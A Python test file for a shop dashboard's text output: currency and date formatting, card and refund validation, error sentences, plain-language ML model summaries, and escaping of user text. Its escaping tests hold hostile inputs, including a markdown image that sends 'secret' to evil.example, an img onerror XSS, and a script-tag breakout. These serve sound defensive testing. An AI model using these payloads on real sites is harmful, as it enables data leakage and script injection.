"""What the dashboard writes, without a browser: formatted numbers and dates, plain-text
escaping, error sentences and the ML page's sentences."""

from __future__ import annotations

from datetime import UTC, date, datetime

import pytest
from markdown_check import markdown_dangers, visible

from shopui import formatting as fmt
from shopui import ml_words as words
from shopui.client import ApiError, NotAvailable, Unreachable
from shopui.messages import card_not_taken, explain, payment_failed, refund_amount_problem
from shopui.payment_forms import STRIPE_JS, card_form_problems, stripe_payment_element
from shopui.plaintext import chart_label, literal

HOSTILE = [
    "![x](https://evil.example/?d=secret)",
    "[click me](https://evil.example) and <https://evil.example/auto>",
    "see https://evil.example/x, www.evil.example or mail boss@evil.example",
    '<img src="https://evil.example/p.png" onerror="alert(1)"> <b>bold</b>',
    "# Heading\n\n- list\n> quote `code` **bold** _it_ ~~gone~~ $x^2$ and $y$",
    "[ref]: https://evil.example\n\n[ref] :red[coloured] :material/home: \\*",
    "![x]\n(https://evil.example/split)",
]


# -- numbers and dates ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("21334.71", "$21,334.71"),
        ("0.5", "$0.50"),
        ("1234567", "$1,234,567.00"),
        ("-12.3", "-$12.30"),
        (136.82870954788834, "$136.83"),
        (None, "—"),
        ("not money", "—"),
    ],
)
def test_money_has_the_currency_sign_thousands_separators_and_cents(value, shown) -> None:
    assert fmt.money(value, "USD") == shown


def test_money_follows_the_shops_currency(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SHOP_CURRENCY", "eur")
    assert fmt.money("21334.71") == "€21,334.71"
    monkeypatch.setenv("SHOP_CURRENCY", "CHF")
    assert fmt.money("21334.71") == "21,334.71 CHF"


def test_counts_are_whole_numbers_and_shares_are_percentages() -> None:
    assert fmt.count(146.0) == "146"
    assert fmt.count(12000) == "12,000"
    assert fmt.plural(1, "item") == "1 item"
    assert fmt.plural(3.0, "item") == "3 items"
    assert fmt.percent(0.8159090909) == "82%"
    assert fmt.percent(0.8159090909, 1) == "81.6%"
    assert fmt.points(0.11536) == "12 percentage points"
    assert fmt.decimal(0.81590909) == "0.816"


def test_dates_are_readable_and_in_utc() -> None:
    assert fmt.when("2026-12-01T13:30:09.057459Z") == "1 Dec 2026, 13:30"
    assert fmt.when("2026-12-01T14:30:00+01:00", zone=True) == "1 Dec 2026, 13:30 UTC"
    assert fmt.when(datetime(2026, 1, 5, 3, 0, tzinfo=UTC)) == "5 Jan 2026, 03:00"
    assert fmt.when(None) == fmt.when("garbage") == "—"
    assert fmt.day("2026-11-02") == fmt.day(date(2026, 11, 2)) == "2 Nov 2026"
    assert fmt.duration(8.3) == "8 s"
    assert fmt.duration(125) == "2 min 5 s"
    assert fmt.duration(3720) == "1 h 2 min"
    assert fmt.seconds_between("2026-12-01T13:30:09Z", "2026-12-01T13:30:17.4Z") == 8.4


# -- payments ------------------------------------------------------------------------------


def test_every_order_status_reads_as_plain_words() -> None:
    from shop.order_statuses import ORDER_STATUSES

    said = {status: fmt.order_status(status) for status in ORDER_STATUSES}
    assert said["awaiting_payment"] == "Awaiting payment"
    assert said["payment_failed"] == "Payment failed"
    assert said["expired"] == "Expired: not paid in time"
    assert said["partially_refunded"] == "Partly refunded"
    assert (said["paid"], said["refunded"]) == ("Paid", "Refunded")
    assert all("_" not in words for words in said.values())
    assert set(fmt.ORDER_STATUS_WORDS) == set(ORDER_STATUSES)  # none left to the fallback


def test_a_refused_card_says_what_to_do_next() -> None:
    assert visible(payment_failed("Your card was declined.")) == (
        "Your card was declined. Nothing was taken from your card. Try another card, or ask "
        "your bank why it refused the payment."
    )
    assert visible(payment_failed(None)).startswith("The payment did not go through. Nothing")
    typed = ApiError(
        422, "Unprocessable", "x", [{"loc": ["body", "card_number"], "msg": "That is not a card"}]
    )
    assert visible(card_not_taken(typed)) == "That is not a card. Check the number and try again."
    paid = ApiError(409, "Conflict", "This order is already paid.")
    assert visible(card_not_taken(paid)) == "This order is already paid."


def test_the_card_form_is_checked_before_anything_is_sent() -> None:
    today, cards = date(2026, 12, 7), {"4242424242424242", "4000000000000002"}
    assert card_form_problems("4242 4242 4242 4242", "12/26", "123", today, cards) == []
    assert card_form_problems("4000-0000-0000-0002", "1/2030", "1234", today, cards) == []
    assert card_form_problems("4242", "13/30", "12a", today, cards) == [
        "Enter the card number: 16 digits, like 4242 4242 4242 4242.",
        "Enter the expiry date as month/year, like 12/34.",
        "Enter the 3 digits on the back of the card (the CVC).",
    ]
    assert card_form_problems("4242424242424242", "11/26", "123", today, cards) == [
        "That expiry date has passed: enter a date in the future."
    ]
    assert card_form_problems("4111 1111 1111 1111", "12/30", "123", today, cards) == [
        "This shop is in test mode and takes only the test cards listed above; never enter a "
        "real card here."
    ]


@pytest.mark.parametrize(
    ("typed", "said"),
    [
        ("10.00", None),
        ("$1,000", None),
        ("ten", "Enter the amount to refund as money, like 10.00."),
        ("1.234", "Enter the amount to refund as money, like 10.00."),
        ("NaN", "Enter the amount to refund as money, like 10.00."),
        ("0", "Enter an amount above zero, or refund all that is left."),
        ("1500", "Only \\$1,200.00 is left to refund: enter that much or less."),
    ],
)
def test_a_typed_refund_amount_is_checked_as_money(typed: str, said: str | None) -> None:
    from decimal import Decimal

    assert refund_amount_problem(typed, Decimal("1200.00")) == said


def test_stripes_payment_element_gets_only_the_keys_and_cannot_be_broken_out_of() -> None:
    page = stripe_payment_element(
        "pk_test_123", "pi_1_secret_</script><script>alert(1)</script>", "Pay <$5>", "http://x/"
    )
    assert page.count("<script") == 2 and page.count("</script>") == 2  # Stripe.js and ours
    assert f'<script src="{STRIPE_JS}"></script>' in page
    assert "pk_test_123" in page and "\\u003c/script>" in page
    assert "Pay &lt;$5&gt;" in page


# -- plain text ----------------------------------------------------------------------------


def test_the_markdown_check_sees_what_raw_text_would_render() -> None:
    for body in HOSTILE[:4]:
        assert markdown_dangers(body), body


@pytest.mark.parametrize("text", HOSTILE)
def test_literal_text_renders_nothing_and_reads_as_typed(text: str) -> None:
    escaped = literal(text)
    assert markdown_dangers(escaped) == []
    assert "\n" not in escaped
    assert visible(escaped) == " ".join(text.split())
    assert "$" not in escaped.replace("\\$", "")  # no formula either


def test_chart_labels_show_tags_as_text() -> None:
    assert chart_label('<a href="https://evil.example">x</a>') == (
        '&lt;a href="https://evil.example"&gt;x&lt;/a&gt;'
    )


# -- error sentences -----------------------------------------------------------------------


def test_validation_errors_name_the_field_and_what_it_needs() -> None:
    exc = ApiError(
        422,
        "Unprocessable Content",
        "The request has invalid field values.",
        [
            {
                "loc": ["body", "password"],
                "msg": "Value should have at least 8 items after validation, not 5",
            },
            {
                "loc": ["body", "email"],
                "msg": "value is not a valid email address: An email address must have an @-sign.",
            },
            {"loc": ["body", "quantity"], "msg": "Input should be less than or equal to 100"},
        ],
    )
    said = visible(explain(exc))
    assert said == (
        "The password needs at least 8 characters. "
        "The e-mail address must look like name@example.com. "
        "The quantity can be at most 100. Correct it and try again."
    )


@pytest.mark.parametrize(
    ("exc", "said"),
    [
        (
            ApiError(409, "Conflict", "Your cart is empty: add products before checking out."),
            "Your cart is empty: add products before checking out.",
        ),
        (
            ApiError(404, "Not Found", "No such product."),
            "No such product. It may be gone: go back and pick again.",
        ),
        (
            ApiError(403, "Forbidden", "Admins only."),
            "Your account may not do this. Sign in with an account that may, or ask an admin.",
        ),
        (
            ApiError(429, "Too Many Requests", "Slow down."),
            "You have tried this too often just now. Wait a minute, then try again.",
        ),
        (
            ApiError(500, "Internal Server Error", "boom"),
            "The shop could not finish this just now. Try again in a minute.",
        ),
        (
            ApiError(504, "Timeout", "The shop took too long to answer; try again."),
            "The shop took too long to answer. Try again in a minute.",
        ),
        (
            ApiError(503, "Unavailable", "No model is trained yet"),
            "Checkout is not ready: No model is trained yet.",
        ),
        (
            Unreachable(503, "Unreachable", "The ML API at http://x is not reachable."),
            "Checkout can't be reached right now. Try again in a minute.",
        ),
        (NotAvailable(404, "Not available", ""), "Checkout is not available yet."),
        (
            ApiError(400, "Bad Request", ""),
            "That did not work. Check what you entered and try again.",
        ),
    ],
)
def test_every_error_is_a_sentence_with_no_status_code(exc: ApiError, said: str) -> None:
    text = visible(explain(exc, "Checkout"))
    assert text == said
    assert str(exc.status) not in text and "problem" not in text


def test_an_api_detail_that_quotes_hostile_input_stays_inert() -> None:
    exc = ApiError(409, "Conflict", "Unknown coupon ![x](https://evil.example/?d=1)")
    assert markdown_dangers(explain(exc)) == []


# -- the ML page's words -------------------------------------------------------------------

CHURN = {"auc": 0.8159, "brier": 0.1796, "log_loss": 0.5347, "ece": 0.1154, "examples": 146}
SPEND = {"mae": 136.8287, "rmse": 231.0188, "spearman": 0.5174, "examples": 146}


def test_model_headlines_are_plain_sentences_with_the_technical_name_in_the_tooltip() -> None:
    churn = words.headlines("churn", CHURN)
    assert [h.sentence for h in churn] == [
        "Tells a customer who is leaving from one who is staying 82% of the time "
        "(guessing would get 50%).",
        "When it gives a chance of leaving, that chance is off by about 12 percentage points "
        "on average.",
        "Checked on 146 customers it had not seen while learning.",
    ]
    assert churn[0].help.startswith("AUC (area under the ROC curve) 0.816: ")
    spend = words.headlines("spend", SPEND)
    assert spend[0].sentence == "A customer's 30-day spend forecast is typically off by $136.83."
    assert spend[0].help.startswith("MAE (mean absolute error) $136.83: ")
    assert spend[1].sentence.startswith(
        "Puts customers in the order of what they spend fairly well"
    )
    for line in churn + spend:
        assert not any(name in line.sentence.lower() for name in ("auc", "mae", "rmse", "ece"))
        assert "146.000" not in line.sentence


def _run(run_id: int, name: str, new: dict, old: dict | None, promoted: bool) -> dict:
    part = {
        "chosen": "gbm",
        "promoted": promoted,
        "champion_on_this_window": old,
        "candidates": {"gbm": new},
    }
    return {"run_id": run_id, "status": "succeeded", "metrics": {name: part}}


def test_comparison_says_whether_the_newest_model_beat_the_one_before() -> None:
    won = words.comparison("churn", _run(5, "churn", {"auc": 0.82}, {"auc": 0.79}, True))
    assert won is not None and won.sentence == (
        "The newest churn model (run 5) beat the one before: it tells leaving from staying "
        "customers 82% of the time, against 79%. It is now in use."
    )
    lost = words.comparison("spend", _run(6, "spend", {"rmse": 240.1}, {"rmse": 231.02}, False))
    assert lost is not None and lost.sentence == (
        "The newest spend model (run 6) did not beat the one in use: its forecasts miss by "
        "$240.10 (big misses counting more), against $231.02. The one in use stays."
    )
    assert lost.help.startswith("RMSE (root mean squared error)")
    tie = words.comparison("spend", _run(7, "spend", {"rmse": 228.0249}, {"rmse": 228.0251}, False))
    assert tie is not None and tie.sentence == (
        "The newest spend model (run 7) did no better than the one in use: both miss by about "
        "$228.03 (big misses counting more). The one in use stays."
    )
    first = words.comparison("churn", _run(1, "churn", {"auc": 0.8}, None, True))
    assert first is not None and "is the first one" in first.sentence


def test_any_trigger_reads_as_words() -> None:
    assert words.trigger_words("schedule") == "On schedule"
    assert words.trigger_words("manual") == "Started by hand"
    assert words.trigger_words("new_data") == "New data arrived"
    assert words.trigger_words("drift") == "Customers' behaviour changed"
    assert words.trigger_words("after_big_sale") == "After big sale"
    assert words.trigger_clause("after_big_sale") == "when after big sale sets it off"
    assert words.status_words("succeeded") == "Finished"


def test_run_outcomes_and_drift_read_as_sentences() -> None:
    run = _run(3, "churn", {"auc": 0.8}, {"auc": 0.7}, True)
    assert words.run_outcome(run) == "New churn model in use."
    assert words.run_finished_message(run) == "Run 3 finished. New churn model in use."
    skipped = {"run_id": 4, "status": "skipped", "reason": "too little history"}
    assert words.run_finished_message(skipped) == "Run 4 was skipped: too little history."
    assert words.signal_words("login_30d") == "sign-ins in the last 30 days"
    assert words.signal_words("tenure_days") == "days since sign-up"
    assert words.signal_words("brand_new_signal") == "brand new signal"
    levels = ["significant", "moderate", "stable", "stable"]
    summary = words.drift_summary("churn", [{"level": lv} for lv in levels])
    assert summary.startswith(
        "Since the churn model learned, 1 of 4 customer signals changed a lot, 1 changed "
        "somewhat and 2 stayed steady."
    )
    assert words.risk_bands(30) == (
        "The chance of leaving is the chance a customer places no order in the next 30 days. "
        "High risk: 70% or more; medium: 40% to 70%; low: under 40%."
    )


def test_the_dashboards_copies_of_ml_rules_match_the_ml_api() -> None:
    from shop.ml.evaluation import PRIMARY_METRIC
    from shop.ml.features import FEATURE_NAMES
    from shop.ml.predictor import HIGH_RISK, MEDIUM_RISK, churn_risk

    assert (words.HIGH_RISK, words.MEDIUM_RISK) == (HIGH_RISK, MEDIUM_RISK)
    assert [churn_risk(p) for p in (0.39, 0.4, 0.69, 0.7)] == ["low", "medium", "medium", "high"]
    assert words.PRIMARY_METRIC == PRIMARY_METRIC
    unnamed = [f for f in FEATURE_NAMES if words.signal_words(f) == f.replace("_", " ")]
    assert unnamed == []  # every signal the models use has a plain name
